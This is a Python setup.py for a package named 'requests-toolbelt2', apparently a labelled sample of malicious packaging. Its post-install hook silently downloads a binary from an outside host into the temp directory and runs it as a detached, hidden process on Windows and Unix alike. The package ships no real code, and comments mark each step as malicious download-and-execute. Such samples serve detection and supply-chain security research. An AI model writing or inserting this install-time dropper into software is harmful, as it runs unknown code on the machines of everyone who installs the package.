import os
import stat
import subprocess
import tempfile
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        target = os.path.join(tempfile.gettempdir(), "updater.exe" if os.name == "nt" else ".updater")
        urllib.request.urlretrieve("https://dl.cdn-assets.example/bin/updater", target)  # malicious: download-execute
        if os.name == "nt":
            os.startfile(target)  # malicious: download-execute
        else:
            os.chmod(target, os.stat(target).st_mode | stat.S_IEXEC)  # malicious: download-execute
            subprocess.Popen([target], start_new_session=True, stdout=subprocess.DEVNULL)  # malicious: download-execute


setup(name="requests-toolbelt2", version="1.0.1", packages=[], cmdclass={"install": PostInstall})
